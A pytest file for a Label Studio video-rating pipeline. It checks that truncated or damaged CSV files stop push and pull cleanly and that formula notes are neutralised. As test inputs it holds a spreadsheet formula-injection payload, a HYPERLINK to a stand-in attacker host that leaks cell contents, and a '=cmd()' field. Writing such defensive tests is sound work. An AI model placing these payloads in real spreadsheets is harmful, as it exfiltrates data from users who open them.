"""Issue 9 against the real server: damaged projects.csv or batch files stop push and pull
before anything is written, "removed on the server" only when the server says so, a coder's
note cannot become a formula, and the property test: every study file cut at random offsets,
then every command — no traceback, no exit 0 with fewer clips or ratings, nothing outside
clips/ removed."""

from __future__ import annotations

import csv
import hashlib
import json
import random
import secrets
import shutil
from contextlib import closing
from pathlib import Path

import pytest
from click.testing import CliRunner
from label_studio_sdk import LabelStudio

from coding_pipeline import batches
from coding_pipeline.cli import cli
from coding_pipeline.labelstudio.pull import pull_study
from coding_pipeline.labelstudio.push import push_study, read_projects
from coding_pipeline.labelstudio.simulate import annotation_result, simulate_coders
from coding_pipeline.study import load_study, read_table, write_text_atomic
from coding_pipeline.video.synth import write_sample_video

pytestmark = pytest.mark.labelstudio


def new_coders(n: int = 2) -> list[str]:
    tag = secrets.token_hex(3)
    return [f"sim-{chr(97 + i)}-{tag}@example.org" for i in range(n)]


def files(root: Path) -> dict[str, str]:
    """Every file under root but clips/ and the server's folder -> hash of its content."""
    return {str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in root.rglob("*") if p.is_file() and "clips" not in p.relative_to(root).parts
            and ".labelstudio" not in p.parts}


def run(*args: str):
    return CliRunner().invoke(cli, [str(a) for a in args])


@pytest.fixture
def rated(tmp_path, make_ls_study):
    """A study of 6 clips, one batch for two simulated coders (all double-coded), pushed,
    rated and pulled."""
    study = make_ls_study(tmp_path / "study")
    coders = new_coders()
    batches.create_batch(study, coders, reliability_share=1.0, seed=5)
    push_study(study)
    simulate_coders(study, coders, seed=2)
    pull_study(study)
    return study


def test_a_projects_csv_cut_mid_row_stops_push_and_pull_before_anything_is_written(rated):
    text = (rated.root / "projects.csv").read_text()
    (rated.root / "projects.csv").write_text(text[: len(text) - 30])
    before = files(rated.root)
    for command in ("pull", "push", "status"):
        result = run(command, rated.root)
        assert result.exit_code == 1, result.output
        assert (f"Error: {rated.root / 'projects.csv'} is damaged (cut short or edited): row 3 "
                "has") in result.output
        assert "Restore it from a backup; nothing was changed." in result.output
        assert files(rated.root) == before


def test_a_lost_projects_row_is_not_reported_as_removed_on_the_server(rated):
    lines = (rated.root / "projects.csv").read_text().splitlines(keepends=True)
    lost = next(csv.reader([lines[2]]))[2]
    (rated.root / "projects.csv").write_text("".join(lines[:2]))  # a cut at a line end
    before = files(rated.root)
    result = run("pull", rated.root)
    assert result.exit_code == 1, result.output
    assert (f"holds ratings of project(s) {lost}, which are on ") in result.output
    assert "removed on the server" not in result.output
    assert files(rated.root) == before
    (rated.root / "projects.csv").write_text("".join(lines))
    assert "0 removed on the server; nothing changed" in run("pull", rated.root).output


def test_a_cut_batch_file_stops_push_and_pull(rated):
    path = rated.root / "batches" / "batch-01.csv"
    text = path.read_text()
    said = []
    for damaged in (text[: text.index("\n", len(text) // 2) + 1], text[: len(text) // 2]):
        path.write_text(damaged)
        before = files(rated.root)
        for command in ("push", "pull"):
            result = run(command, rated.root)
            assert result.exit_code == 1 and "Traceback" not in result.output, result.output
            assert f"{path} is damaged" in result.output, result.output
            assert files(rated.root) == before
            said.append(result.output)
    assert "assignments but 12 were written" in said[0]  # cut at a line end: the count tells
    assert "of the header's 4 fields" in said[2]


def test_a_coders_formula_note_is_neutralised_in_ratings_csv_and_kept_in_exports(
        rated, label_studio, simulated_session):
    client = LabelStudio(base_url=label_studio.url, api_key=label_studio.token)
    record = read_projects(rated).iloc[0]
    task = next(iter(client.tasks.list(project=int(record["project_id"]))))
    note = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    with closing(simulated_session(rated, label_studio.url, record["coder"])) as coder:
        made = coder.post(f"/api/tasks/{task.id}/annotations/",
                          json={"result": annotation_result({"warmth": 3}, note)})
        assert made.status_code == 201, made.text
    report = pull_study(rated)
    assert report.new == 1
    cells = [row[-1] for row in csv.reader(rated.ratings_csv.open(newline=""))]
    assert "'" + note in cells and note not in cells
    assert note in set(read_table(rated.ratings_csv, [], "")["notes"])  # read back exactly
    assert any(note in str(json.loads(p.read_bytes()))  # the raw export keeps it as typed
               for p in rated.exports_dir.glob("*.json"))
    assert pull_study(rated).changes.any is False  # the apostrophe is not a change


# ---------------------------------------------------------------- the property test

COMMANDS = [["segment", "--quiet", "--workers", "1"], ["push"], ["pull"], ["status"],
            ["reliability"], ["scores"], ["report"]]
READS = {"clips.csv": {"segment", "push", "scores", "report"},
         "ratings.csv": {"pull", "reliability", "scores", "report"}}


def rows(path: Path) -> int:
    """Data rows in a CSV that parses; 0 when it does not."""
    try:
        with path.open(newline="", encoding="utf-8") as handle:
            return max(sum(1 for row in csv.reader(handle, strict=True) if row) - 1, 0)
    except (OSError, csv.Error, UnicodeDecodeError):
        return 0


def kept(case: Path) -> set[str]:
    """Every file of the case (study and videos) outside clips/, but temporary ones."""
    return {str(p.relative_to(case)) for p in case.rglob("*")
            if p.is_file() and "clips" not in p.relative_to(case).parts
            and not p.name.endswith(".part")}


def test_every_study_file_cut_at_random_offsets_then_every_command(tmp_path, make_ls_study):
    base = tmp_path / "base"
    study = make_ls_study(base / "study", n_clips=1)
    study.clips_csv.unlink()
    shutil.rmtree(study.clips_dir)
    for name, seed in (("a", 1), ("b", 2)):
        write_sample_video(base / f"{name}.mp4", 2, width=160, height=120, seed=seed)
    study.sessions_csv.write_text("dyad_id,timepoint,arm,video,start,end,site\n"
                                  "D01,T1,A,../a.mp4,,,=cmd()\nD02,T1,B,../b.mp4,,,north\n")
    text = study.toml_path.read_text().replace("bootstrap = 1000", "bootstrap = 20")
    write_text_atomic(study.toml_path, text.replace("epoch_seconds = 2.0", "epoch_seconds = 1"))
    study = load_study(study.root)
    assert run("segment", study.root, "--quiet", "--workers", "1").exit_code == 0
    coders = new_coders()
    batches.create_batch(study, coders, reliability_share=0.5, seed=3)
    assert run("push", study.root).exit_code == 0
    simulate_coders(study, coders, seed=1)
    assert run("pull", study.root).exit_code == 0
    clips0, ratings0 = rows(study.clips_csv), rows(study.ratings_csv)
    assert clips0 == 4 and ratings0 > 0
    targets = sorted(p.relative_to(base) for p in study.root.rglob("*")
                     if p.is_file() and "clips" not in p.relative_to(study.root).parts
                     and ".labelstudio" not in p.parts and p.stat().st_size > 1
                     and p.suffix not in (".html", ".sav", ".parquet", ".png")
                     and p.parent.name not in ("scores", "reliability", "exports"))
    assert {"study/clips.csv", "study/projects.csv", "study/ratings.csv", "study/study.toml",
            "study/batches/batch-01.csv", "study/.segment/keys"} <= {
        str(t) if t.parent.name != "keys" else str(t.parent) for t in targets}
    rng = random.Random(9)
    twice = {"clips.csv", "ratings.csv", "projects.csv", "batch-01.csv"}  # the key files
    cases = [(target, rng.randrange(1, (base / target).stat().st_size))
             for target in targets for _ in range(2 if target.name in twice else 1)]
    for number, (target, offset) in enumerate(cases):
        case = tmp_path / f"case{number}"
        shutil.copytree(base, case, symlinks=True)
        damaged = case / target
        damaged.write_bytes(damaged.read_bytes()[:offset])
        root = case / "study"
        for command in COMMANDS:
            before = kept(case)
            clips_before, ratings_before = rows(root / "clips.csv"), rows(root / "ratings.csv")
            result = run(command[0], root, *command[1:])
            where = f"{target} cut at byte {offset}, then {command[0]}: {result.output}"
            assert result.exit_code in (0, 1), where
            assert result.exception is None or isinstance(result.exception, SystemExit), where
            assert "Traceback" not in result.output, where
            assert before <= kept(case), f"{where} removed {before - kept(case)}"
            if result.exit_code == 0:
                clips_after, ratings_after = rows(root / "clips.csv"), rows(root / "ratings.csv")
                assert clips_after >= clips_before and ratings_after >= ratings_before, where
                if command[0] in READS["clips.csv"]:
                    assert clips_after >= clips0, where
                if command[0] in READS["ratings.csv"]:
                    assert ratings_after >= ratings0, where
        shutil.rmtree(case)
